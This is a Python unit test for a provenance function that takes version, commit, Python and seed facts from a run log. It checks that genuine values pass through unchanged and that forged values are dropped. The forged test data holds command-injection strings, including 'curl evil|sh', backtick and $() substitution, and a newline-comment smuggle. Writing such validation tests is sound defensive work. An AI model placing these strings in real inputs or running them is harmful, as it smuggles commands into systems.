"""What a crate says of the program and the packages behind its results."""

from types import SimpleNamespace

from sinew.tasks.report.crate.environment import environment

TRUE = {"version": "0.1.0", "code": "0123abcd", "python": "3.11.2", "seed": 7, "simulator": "embedded",
        "system": "Linux-6.1.0-18-amd64-x86_64-with-glibc2.36", "asctime": "2026-11-29 23:00:00,123"}  # fmt: skip
FORGED = {"version": "0.1.0; curl evil|sh", "code": "`evil`$(evil)", "python": "3.11\n# evil", "seed": ["a"]}


def test_facts_of_a_log_are_taken_where_they_can_be_facts():
    def facts(run):
        found = environment(SimpleNamespace(run=run, found=SimpleNamespace(tables={})))
        return {name: value for name, value in found.items() if name not in ("solver", "packages")}

    assert facts(TRUE) == TRUE
    assert facts(TRUE | FORGED) == {name: value for name, value in TRUE.items() if name not in FORGED}
